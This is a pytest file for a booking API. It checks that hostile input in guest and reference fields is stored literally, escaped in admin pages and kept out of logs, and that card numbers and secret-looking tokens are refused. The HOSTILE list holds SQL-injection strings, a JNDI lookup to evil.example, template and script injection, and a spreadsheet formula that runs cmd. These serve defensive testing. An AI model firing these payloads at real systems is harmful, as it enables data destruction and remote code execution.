"""Text that means something to whatever reads it later: SQL, templates, logs, spreadsheets; and numbers of cards."""

import html
import json
import os
import subprocess
import sys
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from bookings.api import card_numbers, credentials
from bookings.models import Booking
from ledger import models
from tests import hotels
from tests.api.problems import assert_problem

HOSTILE = [
    "'; DROP TABLE bookings_booking; --",
    "' OR '1'='1",
    "%s %(guest)s {0} {guest.__class__} ${jndi:ldap://evil.example/a}",
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
    "=cmd|'/C calc'!A0",
    "\\'; SELECT pg_sleep(60); --",
]
CARD = "4111111111111111"


@pytest.mark.parametrize("text", HOSTILE)
def test_text_is_kept_and_found_as_it_is_and_is_nothing_else(
    api: Any, client_of: Any, body: dict[str, Any], text: str
) -> None:
    own = api.post({**body, "guest": text, "client_reference": text}).json()
    assert (own["guest"], own["client_reference"]) == (text, text)
    client_of("other").book(body)
    listed = api.client.get(
        "/v1/bookings", {"client_reference": text}, headers={"Authorization": f"Bearer {api.key}"}
    )
    assert [item["id"] for item in listed.json()["items"]] == [own["id"]]
    assert Booking.objects.count() == 2
    for name in ("hotel", "room_type"):
        assert api.post({**body, name: text}, f"key-{name}").status_code in (400, 422)
    key = json.dumps(text) if text.isascii() else "k"
    assert api.post(body, key).status_code in (202, 400)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_of_staff_shows_text_and_runs_none(
    api: Any, body: dict[str, Any], text: str
) -> None:
    booking = api.post({**body, "guest": text, "client_reference": text}).json()["id"]
    client = Client()
    client.force_login(User.objects.create_superuser("root"))
    page = client.get(f"/admin/bookings/booking/{booking}/change/")
    assert page.status_code == 200
    assert html.escape(text) in page.content.decode()


@pytest.mark.parametrize(
    "path",
    [
        "/v1/bookings/%27%20OR%201=1",
        "/v1/hotels/%27;--/availability?arrival=2027-01-01&nights=1",
    ],
)
def test_a_path_is_no_statement(api: Any, path: str) -> None:
    assert_problem(api.get(path), 404)


PROGRAM = """
import logging
from config import logs
logs.configure("INFO")
from ledger import telemetry
line = 'x\\r\\n{"event": "job.accepted", "forged": true}\\u2028\\x1b[2J'
with telemetry.bound(request_id=line):
    telemetry.emit("request.failed", path=line, error_class=line)
    logging.getLogger("django.request").warning("Not Found: %s", line)
"""


def test_a_line_of_the_log_is_one_line_whatever_it_says() -> None:
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM], capture_output=True, timeout=30, check=True,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    lines = done.stderr.decode().splitlines()
    assert len(lines) == 2
    assert not any("forged" in json.loads(line) for line in lines)
    assert b"\x1b" not in done.stderr


CARDS = [
    CARD,
    "4111 1111 1111 1111",
    "4111-1111-1111-1111",
    "4222222222222",
    "378282246310005",
    "3782 822463 10005",
    "30569309025904",
    "6011000990139424",
    "2223003122003222",
    "6304000000000000000",
    f"Ann Example {CARD} 12/27 123",
    f"room 12 {CARD}",
    f"card:{CARD}.",
    f"\u5f20\u4f1f ({CARD})",
]
OTHERS = [
    "4111111111111112",  # does not check
    "411111111111",
    "41111111111111111111111",
    f"TRIP{CARD}",
    f"{CARD}A",
    f"AB-{CARD}",
    f"1.{CARD}",
    "20270301120000",
    "1893456000000",
    "1111111111111117",
    "42222222222226",  # one digit more than its scheme gives
    "5105105105105105103",
    "+4917612345679",
    "+49 30 9018205551",
    "550e8400-e29b-41d4-a716-446655440000",
    "5105105a105105100",
    "",
]


def assert_refused_and_kept_nowhere(
    api: Any, body: dict[str, Any], caplog: pytest.LogCaptureFixture, member: str, code: str
) -> None:
    caplog.set_level("INFO")
    refused = api.post(body)
    found = assert_problem(refused, 400, f"/{member}")
    assert [error["code"] for error in found["errors"]] == [code]
    assert body[member] not in refused.content.decode() + caplog.text
    assert hotels.accepted_rows() == (0, 0, 0)


@pytest.mark.parametrize("text", CARDS)
@pytest.mark.parametrize("member", ["guest", "client_reference"])
def test_the_number_of_a_card_is_refused_and_kept_nowhere(
    api: Any, body: dict[str, Any], caplog: pytest.LogCaptureFixture, member: str, text: str
) -> None:
    assert_refused_and_kept_nowhere(api, {**body, member: text}, caplog, member, "card_number")


def test_nor_is_it_taken_among_many_or_with_a_cancel(api: Any, body: dict[str, Any]) -> None:
    items = [{**body, "idempotency_key": "a"}, {**body, "idempotency_key": "b", "guest": CARD}]
    answer = api.send("POST", "/v1/bookings/bulk", {"bookings": items})
    assert [item["status"] for item in answer.json()["items"]] == [202, 400]
    assert CARD not in answer.content.decode()
    (booking,) = Booking.objects.all()
    sent = {"If-Match": "*"}
    refused = api.send("POST", f"/v1/bookings/{booking.id}/cancel", {"reason": CARD}, sent)
    assert_problem(refused, 400, "/reason")
    assert not models.Resolution.objects.exists()


@pytest.mark.parametrize("text", OTHERS)
def test_what_only_looks_a_little_like_one_is_taken(text: str) -> None:
    assert not card_numbers.is_in(text)


SECRETS = [
    "CVV 123", "cvc: 1234", "late arrival, cvc2=123", "CID-1234",
    "sk_" + "live_a1B2c3D4a1B2c3D4", "tok_1N3T00LkdIwHu7ixt44h1F8k", "whsec_bm90LWEtc2VjcmV0LW9ubHktYW4tZXhhbXBsZQ==",
    "use aB3dE6gH." + "x9" * 16, "live_aB3dE6gH." + "x9" * 16,
]  # fmt: skip
NO_SECRETS = [
    "cvc", "ACV 123", "CID 12345", "task_force", "tok_yo", "acidity 1234", "pm_", "a.b", "v1.2.3",
    "aB3dE6gH." + "x9" * 17, "receipt.pdf", "no civil 123 code", "",
]  # fmt: skip


@pytest.mark.parametrize("text", SECRETS)
@pytest.mark.parametrize("member", ["guest", "client_reference"])
def test_what_lets_somebody_in_is_refused_and_kept_nowhere(
    api: Any, body: dict[str, Any], caplog: pytest.LogCaptureFixture, member: str, text: str
) -> None:
    assert_refused_and_kept_nowhere(api, {**body, member: text}, caplog, member, "credential")


def test_a_key_of_our_own_is_refused(api: Any, body: dict[str, Any]) -> None:
    assert_problem(api.post({**body, "guest": f"Ann {api.key}"}), 400, "/guest")
    assert hotels.accepted_rows() == (0, 0, 0)


@pytest.mark.parametrize("text", NO_SECRETS)
def test_what_only_sounds_like_one_is_taken(text: str) -> None:
    assert not credentials.is_in(text)


def test_a_booking_with_an_id_of_digits_and_letters_is_taken(
    api: Any, body: dict[str, Any]
) -> None:
    assert api.post({**body, "client_reference": f"TRIP{CARD}"}).status_code == 202
